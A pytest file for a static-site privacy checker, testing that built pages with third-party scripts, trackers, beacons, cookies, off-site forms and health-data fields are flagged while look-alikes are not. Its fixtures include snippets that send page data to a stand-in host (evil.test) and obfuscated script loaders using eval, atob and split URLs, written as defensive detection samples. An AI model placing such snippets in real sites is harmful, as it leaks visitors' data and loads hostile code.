"""Built pages: what leaves the site or follows a visitor is found, and look-alikes are left alone."""

from __future__ import annotations

import pytest

from referable.checks.site import check_text

OWN = ["sample.example.org"]
YT = "https://www.youtube.com/embed/abc"

HAZARDS: list[tuple[str, str]] = [
    # loads from markup
    ("site-script", '<script src="https://cdn.jsdelivr.net/npm/x"></script>'),
    ("site-script", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
    ("site-script", '<script defer src="ht\ntps://evil.test/x.js"></script>'),
    ("site-script", '<script src="\\\\evil.test\\x.js"></script>'),
    ("site-script", '<script src="https&colon;//evil.test/x.js"></script>'),
    ("site-script", '<script src="&#104;ttps://evil.test/x.js" integrity="sha384-x"></script>'),
    ("site-script", '<svg><script href="https://evil.test/a.js"/></svg>'),
    ("site-script", '<link rel="modulepreload stylesheet import" href="x"><script src="//a.b/c">'),
    ("site-script", '<script type="importmap">{"imports": {"a": "https://esm.sh/a"}}</script>'),
    ("site-style", '<link rel="stylesheet" href="https://evil.test/a.css">'),
    ("site-style", "<style>@import 'https://evil.test/a.css';</style>"),
    ("site-style", "<style>@import url(//evil.test/a.css);</style>"),
    ("site-font", '<link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet">'),
    ("site-font", "<style>@font-face{font-family:x;src:url(https://a.test/x.woff2)}</style>"),
    ("site-font", '<link rel="preload" as="font" href="https://a.test/x.woff2" crossorigin>'),
    ("site-image", '<img src="https://evil.test/pixel.gif" width=1 height=1>'),
    ("site-image", '<img srcset="/a.png 1x, https://evil.test/b.png 2x">'),
    ("site-image", '<noscript><img src="https://www.facebook.com/tr?id=1&ev=PageView"></noscript>'),
    ("site-image", '<p style="background:url(https://evil.test/b.png)">x</p>'),
    ("site-image", "<p style='background:u\\72l(https://evil.test/b.png)'>x</p>"),
    ("site-image", '<style>a{background:image-set("https://evil.test/a.png" 1x)}</style>'),
    ("site-image", '<video poster="https://evil.test/a.jpg" src="/v.mp4"></video>'),
    ("site-image", '<video><source src="https://evil.test/a.mp4"></video>'),
    ("site-image", '<audio src="https://evil.test/a.mp3"></audio>'),
    ("site-image", '<svg><image xlink:href="https://evil.test/a.png"/></svg>'),
    ("site-image", '<svg><use href="https://evil.test/a.svg#b"/></svg>'),
    ("site-image", '<link rel="shortcut icon" href="https://evil.test/favicon.ico">'),
    ("site-image", '<body background="https://evil.test/a.png">'),
    ("site-image", '<img class="lazy" data-src="https://evil.test/a.png">'),
    ("site-frame", f'<iframe src="{YT}"></iframe>'),
    ("site-frame", '<iframe src="https://calendly.com/sample/30min"></iframe>'),
    ("site-frame", '<iframe loading=lazy src="https://www.google.com/maps/embed?pb=1"></iframe>'),
    ("site-frame", '<embed src="https://evil.test/a.pdf">'),
    ("site-frame", '<object data="https://evil.test/a.svg"></object>'),
    ("site-frame", '<lite-youtube videoid="abc"></lite-youtube>'),
    ("site-image", "<iframe srcdoc=\"<img src='https://evil.test/p.gif'>\"></iframe>"),
    ("site-script", '<iframe src="data:text/html,<script src=https://evil.test/x></script>">'),
    ("site-connect", '<link rel="preconnect" href="https://fonts.gstatic.com">'),
    ("site-connect", "<link rel=dns-prefetch href=//evil.test>"),
    ("site-connect", '<link rel="prefetch" href="https://evil.test/next.html">'),
    (
        "site-connect",
        '<script type="speculationrules">{"prerender":[{"urls":["https://e.test/"]}]}</script>',
    ),
    ("site-request", '<a href="/x" ping="https://evil.test/ping">x</a>'),
    ("site-redirect", '<meta http-equiv="refresh" content="0; url=https://evil.test/">'),
    ("site-redirect", '<base href="https://evil.test/">'),
    ("site-cookie", '<meta http-equiv="Set-Cookie" content="id=1">'),
    # scripts
    ("site-request", "<script>fetch('https://evil.test/collect?p=' + location.pathname)</script>"),
    ("site-request", "<script>window.fetch(`https://evil.test/${x}`)</script>"),
    (
        "site-request",
        "<script>const api='https://evil.test'; go(); function go(){fetch(api + '/x')}</script>",
    ),
    (
        "site-request",
        "<script>var x=new XMLHttpRequest();x.open('POST','//evil.test/a');x.send()</script>",
    ),
    ("site-request", "<script>navigator.sendBeacon('/log', data)</script>"),
    (
        "site-request",
        "<script>navigator.sendBeacon('https://evil.test/b', document.title)</script>",
    ),
    ("site-request", "<script>new WebSocket('wss://evil.test/s')</script>"),
    ("site-request", "<script>new EventSource('https://evil.test/s')</script>"),
    ("site-request", "<script>fetch('https:' + '//' + 'evil.test/x')</script>"),
    ("site-request", "<script>fetch(['ht','tps://evil','.test'].join(''))</script>"),
    ("site-request", "<script>fetch('\\x68ttps://evil.test/x')</script>"),
    ("site-request", "<script>fetch(atob('aHR0cHM6Ly9ldmlsLnRlc3QveA=='))</script>"),
    ("site-request", "<script>eval('fetch(\"https://evil.test/x\")')</script>"),
    ("site-request", '<script>var h=pick();fetch("https://"+h+"/x")</script>'),
    ("site-request", "<script>var o={endpoint:'https://evil.test/c'}; fetch(o.endpoint)</script>"),
    ("site-request", "<script>$.post('https://evil.test/c', {})</script>"),
    (
        "site-request",
        "<script>new RTCPeerConnection({iceServers:[{urls:'stun:x'}], u:'https://e.test'})</script>",
    ),
    ("site-script", "<script>import('https://esm.sh/lib')</script>"),
    ("site-script", "<script type=module>import x from 'https://esm.sh/lib'</script>"),
    (
        "site-script",
        "<script>var s=document.createElement('script');s.src='https://evil.test/t.js';document.head.append(s)</script>",
    ),
    (
        "site-script",
        "<script>document.write('<script src=\"https://evil.test/x.js\"><\\/script>')</script>",
    ),
    ("site-image", "<script>(new Image).src='https://evil.test/p?u='+document.referrer</script>"),
    ("site-image", "<script>var i=new Image();i.src='//evil.test/p.gif'</script>"),
    ("site-image", "<script>el.setAttribute('src','https://evil.test/p.gif')</script>"),
    ("site-image", "<script>el.innerHTML='<img src=https://evil.test/p.gif>'</script>"),
    ("site-image", "<script>el.style.backgroundImage='url(https://evil.test/p.gif)'</script>"),
    (
        "site-frame",
        "<script>var f=document.createElement('iframe');f.src='https://evil.test/';b.append(f)</script>",
    ),
    (
        "site-style",
        "<script>var l=document.createElement('link');l.rel='stylesheet';l.href='https://evil.test/a.css'</script>",
    ),
    ("site-redirect", "<script>location.href='https://evil.test/'</script>"),
    ("site-redirect", "<script>window.location.replace('https://evil.test/')</script>"),
    ("site-redirect", "<script>top.location='https://evil.test/'</script>"),
    ("site-image", "<img src=x onerror=\"new Image().src='https://evil.test/?c='+1\">"),
    ("site-request", "<body onload=\"fetch('https://evil.test')\">"),
    ("site-request", "<a href=\"javascript:fetch('https://evil.test')\">x</a>"),
    ("site-cookie", "<script>document.cookie='visitor=1; max-age=31536000'</script>"),
    ("site-cookie", "<script>document['cookie']='a=1'</script>"),
    ("site-storage", "<script>localStorage.setItem('visitor_id', crypto.randomUUID())</script>"),
    ("site-storage", "<script>localStorage.lastPage = location.href</script>"),
    ("site-storage", "<script>sessionStorage['seen']=1</script>"),
    ("site-storage", "<script>__md_set('__visits', n + 1)</script>"),
    ("site-storage", "<script>indexedDB.open('visits')</script>"),
    ("site-storage", "<script>navigator.geolocation.getCurrentPosition(f)</script>"),
    ("site-script-hidden", "<script>eval(atob(x))</script>"),
    # products
    (
        "site-tracker",
        "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('config','G-SAMPLE')</script>",
    ),
    ("site-tracker", "<script>fbq('init','0');fbq('track','PageView')</script>"),
    ("site-tracker", "<script>_paq.push(['trackPageView'])</script>"),
    ("site-tracker", "<script>window.Intercom('boot',{app_id:'x'})</script>"),
    (
        "site-script",
        '<script async src="https://www.googletagmanager.com/gtag/js?id=G-X"></script>',
    ),
    ("site-script", '<script src="https://static.hotjar.com/c/hotjar-1.js"></script>'),
    ("site-script", '<script src="https://www.google.com/recaptcha/api.js"></script>'),
    ("site-script", '<script src="https://giscus.app/client.js"></script>'),
    ("site-frame", '<iframe src="https://app.acuityscheduling.com/schedule.php"></iframe>'),
    # forms and mail
    (
        "site-form-away",
        '<form action="https://formspree.io/f/x" method="post"><input name=email></form>',
    ),
    ("site-form-away", '<form action="mailto:a@example.org"><input name="q1"></form>'),
    ("site-form-away", '<form action="http://sample.example.org/c"><input name="q1"></form>'),
    ("site-form-away", '<form action="/x"><button formaction="//evil.test/x">Go</button></form>'),
    (
        "site-form-away",
        '<form role="search" action="https://www.google.com/search"><input name=q></form>',
    ),
    ("site-health-field", "<label for=a>Describe your symptoms</label><textarea id=a></textarea>"),
    ("site-health-field", '<form><p>Date of birth <input name="d"></p></form>'),
    ("site-health-field", '<input placeholder="Insurance member ID">'),
    ("site-health-field", '<label><input type="checkbox" name="p1"> Are you pregnant?</label>'),
    ("site-health-field", '<select name="reasonForVisit"><option>Pain</option></select>'),
    ("site-health-field", '<form method="get"><input name="current_medications"></form>'),
    (
        "site-personal-field",
        '<form action="/send" method="post"><input name="name"><button>Send</button></form>',
    ),
    ("site-personal-field", '<form><input type="email" name="e"></form>'),
    ("site-personal-field", '<form><label>Message<textarea name="m"></textarea></label></form>'),
    (
        "site-mail-prompt",
        '<a href="mailto:a@example.org?body=Please%20describe%20your%20symptoms">Mail</a>',
    ),
    (
        "site-mail-prompt",
        '<a href="mailto:a@example.org?subject=New%20patient&body=DOB:%0AInsurance:">x</a>',
    ),
    (
        "site-mail-prompt",
        '<a href="mailto:a@example.org">E-mail us a description of your injury</a>',
    ),
    ("site-link-unlisted", '<a href="https://calendly.com/sample">Book</a>'),
    ("site-link-unlisted", '<a href="https://wa.me/15555550100">WhatsApp</a>'),
    # what no address gives away
    (
        "site-health-field",
        '<form><label>Your symptoms <textarea name="s"></textarea></label></form>',
    ),
    ("site-storage", '<script>window["local"+"Storage"].v=1</script>'),
    ("site-storage", '<script>navigator.serviceWorker.register("/sw.js")</script>'),
    (
        "site-request",
        '<script>new RTCPeerConnection({iceServers:[{urls:"stun:stun.evil.test"}]})</script>',
    ),
    ("site-frame", '<div class="g-recaptcha" data-sitekey="x"></div>'),
    ("site-frame", '<div id="disqus_thread"></div>'),
    ("site-frame", '<blockquote class="instagram-media" data-instgrm-permalink="x"></blockquote>'),
]

HARMLESS = [
    '<a href="https://www.youtube.com/watch?v=abc">Watch</a>',
    '<a href="https://www.google.com/maps?q=100+Example+Street" rel="noopener">Map</a>',
    '<a target="_blank" href="https://doi.org/10.1000/x">DOI</a>',
    '<a href="https://book.partner.test/sample">Book a visit</a>',
    '<img src="https://sample.example.org/assets/a.png">',
    '<img src="https://www.sample.example.org/a.png"><img src="//sample.example.org/b.png">',
    '<link rel="canonical" href="https://elsewhere.example.net/x">',
    '<link rel="me" href="https://mastodon.test/@x"><link rel="license" href="https://cc.test/">',
    '<link rel="alternate" type="application/rss+xml" href="https://feeds.example.net/x">',
    '<meta property="og:image" content="https://cdn.example.net/card.png">',
    '<meta http-equiv="refresh" content="0; url=/new/">',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"></svg>',
    '<script type="application/ld+json">{"@context":"https://schema.org","sameAs":["https://x.com/a"]}</script>',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "<style>a{background:url(data:image/svg+xml;base64,AAAA)} @namespace url(http://www.w3.org/1999/xhtml);</style>",
    "<style>/* https://fonts.googleapis.com/css */ a{content:'https://x.test'} a[href^=\"https://x.test\"]{color:red}</style>",
    "<style>@font-face{src:url(../fonts/x.woff2)} a{background:url(/a.png)}</style>",
    '<pre><code>&lt;script src="https://www.googletagmanager.com/gtag/js"&gt;&lt;/script&gt;</code></pre>',
    "<p>We use no Google Analytics, no gtag('config') and no fbq('init') here.</p>",
    "<!-- <script src='https://evil.test/x.js'></script> -->",
    "<textarea readonly><script src='https://evil.test/x.js'></script></textarea>",
    "<script>fetch('/search/search_index.json').then(r => r.json())</script>",
    "<script>fetch(new URL('library.json', document.baseURI))</script>",
    "<script>fetch('https://' + location.host + '/data.json')</script>",
    "<script>// fetch('https://evil.test')\n/* new Image().src='https://evil.test' */\nvar a=1</script>",
    "<script>var note='We never call fetch(https://evil.test)'; show(note)</script>",
    "<script>row.append(link); link.href='https://doi.org/'+doi; fetch('/library.json')</script>",
    "<script>var a=document.createElement('a');a.href='https://pubmed.ncbi.nlm.nih.gov/'+id</script>",
    "<script>document.createElementNS('http://www.w3.org/2000/svg','path')</script>",
    "<script>if (location.href === 'https://evil.test/') stop()</script>",
    "<script>localStorage.setItem('theme', 'dark')</script>",
    "<script>localStorage.getItem('color-scheme')</script>",
    "<script>__md_set('__palette', p)</script>",
    "<script>location.hash='#part'; location.href='/next/'</script>",
    "<button onclick=\"location.href='https://doi.org/10.1000/x'\">Open</button>",
    "<script>var s=document.createElement('script');s.src='/assets/x.js'</script>",
    "<script>var re=/https?:\\/\\/evil/g; a = b / c; fetch('/x')</script>",
    "<script>new Worker('/assets/search.js')</script>",
    "<script>var t=document.querySelector('a[href^=\"https://x.test\"]'); var i=new Image(); i.src='/a.png'</script>",
    '<form role="search" action="/search/"><input type="search" name="q"></form>',
    '<form action="https://sample.example.org/search/"><input name="q" placeholder="Search"></form>',
    '<label>Filter by condition <select id="c"><option>Neck pain</option></select></label>',
    "<label for=f>Search symptoms and conditions</label><input id=f type=text>",
    '<label><input type="checkbox" name="filter" value="migraine"> Show migraine</label>',
    '<li class="task-list-item"><input type="checkbox" disabled> Describe your symptoms</li>',
    '<form class="md-header__option"><input class="md-option" type="radio" name="__palette"></form>',
    "<p>Name: ________ Date of birth: ________ Symptoms: ________</p>",
    '<a href="mailto:office@example.org">office@example.org</a>',
    '<a href="mailto:office@example.org?subject=Referral%20question">Write to the office</a>',
    '<a href="tel:+15555550100">(555) 555-0100</a> <a href="sms:+15555550100">Text us</a>',
    '<iframe src="/packet/profile.pdf" title="Profile"></iframe>',
    '<iframe src="about:blank"></iframe>',
    '<blockquote cite="https://www.cdc.gov/x">quote</blockquote>',
    '<time datetime="2026-01-01">x</time><a href="//sample.example.org/x">x</a>',
    '<p>Load it with <code>&lt;iframe src="https://www.youtube.com/embed/x"&gt;</code>.</p>',
    '<a href="http://localhost:8000/">local</a><img src="http://127.0.0.1:8000/a.png">',
    "<p title=\"<img src='https://evil.test/x'>\">x</p>",
    '<a rel="nofollow" href="https://www.facebook.com/sample">Facebook</a>',
    '<a href="https://squareup.com.example.net/">not Square</a>',
    '<form action="/search/"><input name="s" placeholder="Search"></form>',
    '<script>const names=["a", "localStorage"]; console.log(names.length)</script>',
    '<p class="fb-2026">First aid course</p><p id="twitter">Find us</p>',
]


@pytest.mark.parametrize(("code", "html"), HAZARDS, ids=range(len(HAZARDS)))
def test_hazard_is_found(code: str, html: str) -> None:
    """Whatever calls another host or keeps state is reported by its rule."""
    page = f"<!doctype html><html><body><h1>Neck pain</h1>{html}<p>Text.</p></body></html>"

    found = {d.code for d in check_text(page, "a/index.html", OWN, ["partner.test"])}

    assert code in found


@pytest.mark.parametrize("html", HARMLESS, ids=range(len(HARMLESS)))
def test_look_alike_is_left_alone(html: str) -> None:
    """Links, own addresses, namespaces, comments and prose are no findings."""
    page = f"<!doctype html><html><body><h1>Neck pain</h1>{html}<p>Text.</p></body></html>"

    assert check_text(page, "a/index.html", OWN, ["partner.test"]) == []


MORE_HAZARDS: list[tuple[str, str]] = [
    (
        "site-script",
        "<script>!function(f,b,e,v,t,s){t=b.createElement(e);t.src=v;s.append(t)}(window,document,'script','https://evil.test/e.js')</script>",
    ),
    (
        "site-script",
        "<script>function load(u){var s=document.createElement('script');s.src=u;h.append(s)} load('https://evil.test/e.js')</script>",
    ),
    ("site-request", "<script>const API='https://evil.test'; fetch(`${API}/x`)</script>"),
    ("site-request", "<script>setTimeout(\"fetch('https://evil.test')\", 10)</script>"),
    ("site-request", "<script>fetch(decodeURIComponent('https%3A%2F%2Fevil.test'))</script>"),
    (
        "site-style",
        "<script>var l=document.createElement('link');l.setAttribute('href','https://evil.test/a.css')</script>",
    ),
    ("site-health-field", '<select name="c"><option>Choose your condition</option></select>'),
    ("site-request", "<script>fetch('https://www.sample.example.org.evil.test/x')</script>"),
    ("site-script", '<script src="https://sample.example.org@evil.test/x.js"></script>'),
]


@pytest.mark.parametrize(("code", "html"), MORE_HAZARDS, ids=range(len(MORE_HAZARDS)))
def test_address_is_followed_to_its_use(code: str, html: str) -> None:
    """An address handed to a function, kept in a name or written in pieces is followed."""
    assert code in {d.code for d in check_text(html, "a.html", OWN)}
